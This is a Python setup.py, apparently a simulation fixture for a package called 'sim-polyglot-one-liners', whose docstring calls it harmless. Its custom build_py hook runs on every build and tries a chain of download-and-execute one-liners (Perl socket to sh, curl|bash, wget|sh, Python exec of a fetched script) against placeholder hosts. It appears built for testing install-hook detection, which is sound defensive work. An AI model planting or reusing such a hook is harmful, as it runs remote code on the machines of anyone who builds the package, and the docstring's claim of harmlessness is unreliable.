# SPDX-License-Identifier: Apache-2.0
"""Harmless: there is nothing to fetch."""

import subprocess
import sys

from setuptools import setup
from setuptools.command.build_py import build_py

PERL = (
    'use IO::Socket::INET; $s=IO::Socket::INET->new(PeerAddr=>"p.sim-chain.invalid:80",Timeout=>2) or exit 1;'
    'print $s "GET /i HTTP/1.0\\n\\n"; while(<$s>){$b.=$_} open(F,"|sh"); print F $b;'
)
CHAIN = (
    ["perl", "-e", PERL],
    ["bash", "-c", "set -o pipefail; curl -fsSL -m 2 http://p.sim-chain.invalid/i | bash"],
    ["bash", "-c", "set -o pipefail; wget -q -T 2 -t 1 -O - http://p.sim-chain.invalid/i | sh"],
    ["node", "-e", "require('child_process').execSync('true')"],
    [sys.executable, "-c", "import urllib.request as u; exec(u.urlopen('http://240.0.0.83/i', timeout=1).read())"],
)


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        for link in CHAIN:
            try:
                done = subprocess.run(link, capture_output=True, timeout=10, check=False)
            except OSError:
                continue
            if done.returncode == 0:
                break


setup(name="sim-polyglot-one-liners", version="1.0.0", py_modules=["sim_pol"], cmdclass={"build_py": BuildPy})
